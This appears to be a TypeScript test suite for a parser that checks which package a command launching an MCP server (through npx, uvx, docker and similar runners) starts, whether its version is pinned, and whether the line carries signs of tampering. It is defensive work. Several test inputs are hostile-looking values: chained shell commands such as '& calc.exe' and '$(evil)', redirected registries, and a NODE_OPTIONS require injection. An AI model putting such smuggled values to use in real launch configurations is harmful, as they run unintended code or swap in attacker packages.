import assert from 'node:assert/strict'
import test from 'node:test'
import { bridgeOf } from './bridge.ts'
import {
  identityStarted,
  isPinned,
  packageStarted,
  startedPackage,
  startOf,
  startOfLine,
} from './started-package.ts'

const started = (line: string) => {
  const found = startedPackage(line.split(' '))
  return found && `${found.registry} ${found.name} ${found.version} ${isPinned(found)}`
}

test('the package that a runner starts, with its version', () => {
  const cases: Record<string, string | null> = {
    'npx -y acme-mcp': 'npm acme-mcp null false',
    'npx acme-mcp@latest --key x': 'npm acme-mcp latest false',
    'npx -y @acme/mcp@1.2.3': 'npm @acme/mcp 1.2.3 true',
    'npx -y @acme/mcp@^1.2.3': 'npm @acme/mcp ^1.2.3 false',
    'npx -y @acme/mcp@1': 'npm @acme/mcp 1 false',
    'npx -y @acme/mcp@1.2.3-beta.1': 'npm @acme/mcp 1.2.3-beta.1 true',
    'npx -y -p @acme/mcp@1.0.0 acme': 'npm @acme/mcp 1.0.0 true',
    'npx --package=@acme/mcp@1.0.0 acme': 'npm @acme/mcp 1.0.0 true',
    'npx --registry https://registry.example acme-mcp': 'npm acme-mcp null false',
    'C:\\nodejs\\npx.cmd -y acme-mcp': 'npm acme-mcp null false',
    'cmd /c npx -y acme-mcp@2.0.0': 'npm acme-mcp 2.0.0 true',
    'env A=b npx acme-mcp': 'npm acme-mcp null false',
    'npm exec -y acme-mcp': 'npm acme-mcp null false',
    'pnpm dlx acme-mcp@1.1.1': 'npm acme-mcp 1.1.1 true',
    'uvx mcp-server-git': 'pypi mcp-server-git null false',
    'uvx --from git-tools==1.2 mcp-server-git': 'pypi git-tools 1.2 true',
    'uvx mcp-server-git@1.2.3': 'pypi mcp-server-git 1.2.3 true',
    'uv tool run mcp-server-git[all]==2.0': 'pypi mcp-server-git 2.0 true',
    'docker run -i --rm -e TOKEN mcp/fetch': 'docker mcp/fetch null false',
    'docker run -i ghcr.io:5000/acme/mcp:1.4 serve': 'docker ghcr.io:5000/acme/mcp 1.4 true',
    'docker run mcp/fetch:latest': 'docker mcp/fetch latest false',
    'docker run mcp/fetch@sha256:abc': 'docker mcp/fetch sha256:abc true',
    'npx https://user:key@git.example/a.git': null,
    'npx -y': null,
    'node server.js': null,
    'npm start': null,
  }
  for (const [line, expected] of Object.entries(cases)) assert.equal(started(line), expected, line)
})

const doubt = (line: string) => startOf(line.split(' ')).doubt

test('which words behind a package are the runner’s is a fact of each runner', () => {
  for (const line of [
    'npm exec -y good --package=evil',
    'npm exec -y good --registry=https://evil.example',
    'npm x good -c evil',
    'npm exec good ${ARGUMENT}',
    'npm exec good --stdio',
    'docker run -i mcp/fetch sh -c evil',
  ])
    assert.notEqual(doubt(line), null, line)
  for (const line of [
    'npx -y good --package=evil',
    'npm exec -y -- good --package=evil',
    'npm exec -y good -- --stdio',
    'npm exec good serve',
    'pnpm dlx good --package=evil',
    'yarn dlx good -p evil',
    'bunx good --registry=https://evil.example',
    'bun x good -p evil',
    'uvx good --from evil',
    'pipx run good --spec evil',
    'docker run -i --rm mcp/fetch --entrypoint evil',
  ])
    assert.equal(doubt(line), null, line)
})

const sh = (text: string, ...more: string[]) => startOf(['sh', '-c', text, ...more])

test('a shell that reads the line may find signs of its own in it', () => {
  for (const line of [
    'cmd /c npx -y good & calc.exe',
    'cmd /c npx -y good %EVIL%',
    'cmd.exe /C npx -y good ^',
    'cmd /c npx -y good "a',
  ])
    assert.equal(doubt(line), 'shell', line)
  for (const text of ['npx -y good; evil', 'npx -y good $(evil)', 'npx good\nevil'])
    assert.equal(sh(text).doubt, 'shell', text)
  assert.equal(sh('npx -y good', 'evil').doubt, 'shell')
  assert.deepEqual([sh('npx -y good').doubt, sh('npx -y good').isShell], [null, true])
  assert.equal(doubt('cmd /c npx -y good --root C:\\work'), null)
})

const version = (line: string) => {
  const identity = identityStarted(startOf(line.split(' ')))
  return identity?.kind === 'package' ? identity.version : 'in doubt'
}

test('one exact version, or whatever is newest; a range or a tag proves nothing', () => {
  assert.equal(version('npx good@1.2.3'), '1.2.3')
  assert.equal(version('npx good@1.2.3-beta.1'), '1.2.3-beta.1')
  for (const line of ['npx good', 'npx good@latest', 'docker run mcp/fetch', 'uvx good@latest'])
    assert.equal(version(line), null, line)
  for (const line of [
    'npx good@1',
    'npx good@1.2',
    'npx good@^1.2.3',
    'npx good@next',
    'npx good@',
    'npx good@v1.2.3',
    'npx good@1.2.3.4',
    'docker run mcp/fetch:1.4',
    'uvx good>=1',
  ])
    assert.equal(version(line), 'in doubt', line)
})

const bridge = (line: string) => bridgeOf(startOf(line.split(' ')))

test('a bridge is the address that it passes on to, if no option leads elsewhere', () => {
  const good = 'npx -y mcp-remote@0.1.0 https://a.example/mcp'
  assert.deepEqual(bridge(good), { address: 'https://a.example/mcp', headers: [], doubt: null })
  assert.equal(bridge('npx acme https://a.example/mcp'), null)
  assert.equal(bridge('npx mcp-remote --debug https://a.example/mcp'), null)
  for (const options of [
    '3334 --allow-http --debug',
    '--transport sse-only --auth-timeout 60',
    '--host 127.0.0.1 --ignore-tool delete*',
  ])
    assert.equal(bridge(`${good} ${options}`)?.doubt, null, options)
  for (const options of [
    'https://evil.example',
    '--host evil.example',
    '--resource https://evil.example',
    '--enable-proxy',
    '--header-file /tmp/evil',
    '--transport evil',
    '--auth-success-url https://evil.example',
    '--debug 3334',
  ])
    assert.equal(bridge(`${good} ${options}`)?.doubt, 'option', options)
  const sent = bridgeOf(startOf([...good.split(' '), '--header', 'X-Key: a', '--header', 'Host:b']))
  assert.deepEqual(sent?.headers, ['X-Key', 'Host'])
})

test('the package that a command is proven to start; options and credentials are none', () => {
  assert.equal(packageStarted(['npx', '-y', '@acme/mail@2.1.0', '--api-key', '***']), '@acme/mail')
  assert.equal(packageStarted(['MAIL_KEY=***', 'npx', '-y', 'mail@^2']), 'mail')
  for (const line of [
    '/usr/bin/npx mail',
    'ACME_KEY=***',
    'node mail.js',
    'npx --token ***',
    'A=b npx mail',
    'NODE_OPTIONS=--require=evil npx mail',
  ])
    assert.equal(packageStarted(line.split(' ')), null, line)
  assert.equal(packageStarted(['npx', 'mail'], ['MAIL_KEY']), 'mail')
  assert.equal(packageStarted(['npx', 'mail'], ['NODE_OPTIONS']), null)
  // Only people and evidence set variables so: no client does.
  assert.equal(doubt('A_KEY=b npx mail'), 'program')
  assert.equal(startOfLine(['A_KEY=b', 'npx', 'mail']).doubt, null)
})

test('what follows an option that is not known is never named: it may be a key', () => {
  for (const line of ['npx --key hunter22', 'npx --key hunter22 acme', 'uvx --token abc def'])
    assert.deepEqual([startedPackage(line.split(' ')), doubt(line)], [null, 'option'], line)
  for (const program of ['constructor', '__proto__', 'toString'])
    assert.equal(startOf([program, 'acme']).doubt, 'program')
})
